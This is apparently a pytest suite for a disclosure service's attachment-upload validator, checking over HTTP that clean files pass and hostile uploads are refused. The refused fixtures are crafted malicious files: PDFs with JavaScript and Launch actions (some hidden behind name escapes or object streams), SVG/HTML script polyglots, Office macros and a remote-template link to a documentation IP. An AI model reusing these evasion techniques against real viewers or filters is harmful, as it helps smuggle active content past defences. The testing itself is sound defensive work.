"""Attachments refused by what their bytes can do: PDF scripts and actions (also behind
name escapes and inside compressed object streams), what cannot be checked, polyglots,
Office macros — over real HTTP, with no file and no row left behind; and clean files of
the same kinds still accepted."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from aiohttp.test_utils import TestClient
from attachments_support import UPLOAD, cfb, form, jpeg, ooxml, png, stored_files, writer_headers

from aqi_service.disclosure.seed import pdf_file
from aqi_service.web import keys

pytestmark = pytest.mark.db
PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf(catalog_extra: bytes = b"", extra: list[bytes] = (), trailer_extra: bytes = b"",
        head: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A one-page PDF (ISO 32000-1 §7.5: header, objects, xref, trailer) with extra
    catalogue entries and extra objects numbered from 6."""
    text = b"BT /F1 12 Tf 60 780 Td (report) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        *extra,
    ]
    return pdf_file(objects, head, trailer_extra)


def object_stream(number: int, body: bytes, filters: bytes = b"/Filter /FlateDecode",
                  encode: bool = True) -> bytes:
    """An object stream (ISO 32000-1 §7.5.7) holding object ``number``."""
    index = b"%d 0 " % number
    data = index + body
    raw = zlib.compress(data) if encode else data
    return (b"<< /Type /ObjStm /N 1 /First %d %s /Length %d >>\nstream\n"
            % (len(index), filters, len(raw)) + raw + b"\nendstream")


def docx_with(name: str, data: bytes = b"x") -> bytes:
    buf = io.BytesIO(ooxml({"word/document.xml": "<w:document/>"}))
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr(name, data)
    return buf.getvalue()


def cfb_with(*streams: str) -> bytes:
    """``test_admin_attachments.cfb`` with several streams in its one directory sector."""
    one = cfb(streams[0])
    directory = bytearray(one[1024:1536])
    for slot, name in enumerate(streams[1:], start=2):
        entry = bytearray(directory[128:256])
        raw = (name + "\0").encode("utf-16-le")
        entry[:64] = raw + bytes(64 - len(raw))
        entry[0x40:0x42] = len(raw).to_bytes(2, "little")
        directory[slot * 128:(slot + 1) * 128] = entry
    return one[:1024] + bytes(directory)


REFUSED = [
    ("openaction-js", "a.pdf", PDF, pdf(b"/OpenAction 6 0 R", [JS_ACTION]), "active_content",
     "/JavaScript"),
    ("js-hex-escaped", "a.pdf", PDF,
     pdf(b"/OpenAction 6 0 R", [b"<< /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>"]),
     "active_content", "/JavaScript"),
    ("js-key-escaped", "a.pdf", PDF,
     pdf(b"/Names 6 0 R", [b"<< /#4A#53 (app.alert\\(1\\)) >>"]), "active_content", "/JS"),
    ("js-in-object-stream", "a.pdf", PDF,
     pdf(b"/OpenAction 6 0 R", [object_stream(6, JS_ACTION)]), "active_content",
     "/JavaScript"),
    ("object-stream-type-escaped", "a.pdf", PDF,
     pdf(b"/OpenAction 6 0 R", [object_stream(6, JS_ACTION).replace(b"/ObjStm",
                                                                    b"/Obj#53tm")]),
     "active_content", "/JavaScript"),
    ("object-stream-ascii85", "a.pdf", PDF,
     pdf(b"", [object_stream(6, b"<< /S /GoTo >>",
                             b"/Filter [/ASCII85Decode /FlateDecode]")]),
     "unverifiable", "/ObjStm"),
    ("object-stream-broken", "a.pdf", PDF,
     pdf(b"", [object_stream(6, b"<< >>", encode=False)]), "unverifiable", "/ObjStm"),
    ("encrypted", "a.pdf", PDF, pdf(trailer_extra=b"/Encrypt 9 0 R "), "unverifiable",
     "/Encrypt"),
    ("launch", "a.pdf", PDF,
     pdf(b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >>"), "active_content",
     "/Launch"),
    ("remote-goto-unc", "a.pdf", PDF,
     pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\203.0.113.5\\\\x.pdf) /D [0 /Fit] >>"),
     "active_content", "/GoToR"),
    ("additional-actions", "a.pdf", PDF, pdf(b"/AA << /WC 6 0 R >>", [b"<< /S /URI >>"]),
     "active_content", "/AA"),
    ("embedded-file", "a.pdf", PDF,
     pdf(b"/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>",
         [b"<< /Type /Filespec /F (x.exe) >>"]), "active_content", "/EmbeddedFiles"),
    ("object-hidden-in-a-stream", "a.pdf", PDF,
     pdf(b"/OpenAction 7 0 R", [b"<< /Length 60 >>\nstream\n" + b"\x00" * 8
                                + b"\n7 0 obj " + JS_ACTION + b" endobj\nendstream"]),
     "active_content", "/JavaScript"),
    ("pdf-html-polyglot", "a.pdf", PDF,
     pdf(head=b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n"),
     "polyglot", "<html>"),
    ("script-deep-in-pdf", "a.pdf", PDF,
     pdf(b"", [b"<< /Length 30 >>\nstream\n<SCRIPT>alert(1)</SCRIPT>\nendstream"]),
     "polyglot", "<SCRIPT>"),
    ("svg-in-png-head", "a.png", "image/png",
     png()[:33] + b"\x00\x00\x00\x2ctEXt<svg onload=alert(1)>" + png()[33:], "polyglot",
     "<svg "),
    ("pdf-in-png-head", "a.png", "image/png", png() + b"%PDF-1.7\n", "polyglot", "%PDF-"),
    ("zip-appended-to-jpeg", "a.jpg", "image/jpeg", jpeg() + ooxml({"x.txt": "x"}),
     "polyglot", "ZIP"),
    ("zip-appended-to-pdf", "a.pdf", PDF, pdf() + ooxml({"x.txt": "x"}), "polyglot", "ZIP"),
    ("docx-macros", "a.docx", DOCX, docx_with("word/vbaProject.bin"), "active_content",
     "word/vbaProject.bin"),
    ("docx-exe", "a.docx", DOCX, docx_with("word/media/setup.exe", b"MZ"), "active_content",
     "word/media/setup.exe"),
    ("doc-macros", "a.doc", "application/msword", cfb_with("WordDocument", "_VBA_PROJECT"),
     "active_content", "_VBA_PROJECT"),
    ("xls-ole-package", "a.xls", "application/vnd.ms-excel",
     cfb_with("Workbook", "\x01Ole10Native"), "active_content", "Ole10Native"),
    ("docx-remote-template", "a.docx", DOCX, docx_with(
        "word/_rels/settings.xml.rels",
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.5/'
        b't.dotm" TargetMode="External"/></Relationships>'), "active_content",
     "word/_rels/settings.xml.rels"),
]


@pytest.mark.parametrize(("name", "declared", "data", "code", "found"),
                         [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED])
async def test_active_and_polyglot_files_are_refused(
        admin_client: TestClient, name: str, declared: str, data: bytes,
        code: str, found: str) -> None:
    resp = await admin_client.post(UPLOAD, data=form(name, declared, data),
                                   headers=await writer_headers(admin_client))
    body = await resp.json()
    assert resp.status == 415, body
    assert body["error"]["code"] == code
    assert body["error"]["details"]["found"].lower() == found.lower()
    assert body["error"]["message"]
    assert stored_files(admin_client) == []   # no partial or temporary file
    async with admin_client.app[keys.POOL].acquire() as conn:
        assert await conn.fetchval("SELECT count(*) FROM attachments") == 0


ACCEPTED = [
    ("view-openaction-and-link", "a.pdf", PDF, pdf(
        b"/OpenAction [3 0 R /Fit]",
        [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
         b"/A << /S /URI /URI (https://www.mee.gov.cn/) >> >>"])),
    ("benign-object-stream", "a.pdf", PDF,
     pdf(b"/Outlines 6 0 R", [object_stream(6, b"<< /Type /Outlines /Count 0 >>")])),
    ("jpeg-with-xmp", "a.jpg", "image/jpeg",
     jpeg()[:20] + b"\xff\xe1\x00\x60http://ns.adobe.com/xap/1.0/\x00<?xpacket begin=''?>"
     b"<x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta>" + b" " * 5 + jpeg()[20:]),
    ("docx-with-hyperlink", "a.docx", DOCX, docx_with(
        "word/_rels/document.xml.rels",
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/hyperlink" Target="https://www.mee.gov.cn/" '
        b'TargetMode="External"/></Relationships>')),
]


@pytest.mark.parametrize(("name", "declared", "data"), [a[1:] for a in ACCEPTED],
                         ids=[a[0] for a in ACCEPTED])
async def test_clean_files_of_the_same_kinds_are_accepted(
        admin_client: TestClient, name: str, declared: str, data: bytes
) -> None:
    resp = await admin_client.post(UPLOAD, data=form(name, declared, data),
                                   headers=await writer_headers(admin_client))
    assert resp.status == 201, await resp.text()


def test_a_bomb_in_an_object_stream_is_not_inflated_past_the_bound() -> None:
    from aqi_service.disclosure import active_content
    from aqi_service.errors import InputError

    bomb = zlib.compress(b"6 0 " + b" " * (active_content.MAX_INFLATED + 10), 9)
    data = pdf(b"", [b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n"
                     b"stream\n" % len(bomb) + bomb + b"\nendstream"])
    assert len(data) < 200_000
    with pytest.raises(InputError) as err:
        active_content.check_pdf(data)
    assert err.value.code == "unverifiable"


async def test_an_attachment_is_public_only_once_something_published_links_it(
        admin_client: TestClient) -> None:
    from disclosure_support import bearer, minter

    h = await writer_headers(admin_client)
    docs = []
    for i in range(3):
        resp = await admin_client.post(UPLOAD, headers=h, data=form(
            f"通报{i}.pdf", PDF, pdf(b"/Lang (zh-CN) /PageLabels << /Nums [0 << >>] >>" * i)))
        assert resp.status == 201, await resp.text()
        docs.append(await resp.json())
    for doc in docs:
        assert (await admin_client.get(doc["url"])).status == 404
        other = bearer(await minter(admin_client)("monitoring:write"))
        assert (await admin_client.get(doc["url"], headers=other)).status == 404
        resp = await admin_client.get(doc["url"], headers={"Authorization": "Bearer nope"})
        assert resp.status == 401
        resp = await admin_client.get(doc["url"], headers=h)
        assert resp.status == 200 and resp.headers["Cache-Control"] == "private, no-store"
    # a record, a penalty decision and an EIA stage publish what they link
    resp = await admin_client.post("/api/v1/admin/disclosures", headers=h, json={
        "subitem": "key_enterprises.key_polluter_list", "title": "重点排污单位名录",
        "attachments": [docs[0]["id"]]})
    assert resp.status == 201, await resp.text()
    h_all = bearer(await minter(admin_client)("admin"))
    resp = await admin_client.post("/api/v1/admin/penalties", headers=h_all, json={
        "decision_no": "廊环罚〔2026〕第9号", "party_name": "测试公司", "violation": "超标排放",
        "legal_basis": "大气法第九十九条", "penalty": "罚款", "decision_date": "2026-11-02",
        "attachment": docs[1]["id"]})
    assert resp.status == 201, await resp.text()
    for doc in docs[:2]:
        resp = await admin_client.get(doc["url"])
        assert resp.status == 200
        assert resp.headers["Cache-Control"] == "public, max-age=86400, immutable"
    assert (await admin_client.get(docs[2]["url"])).status == 404
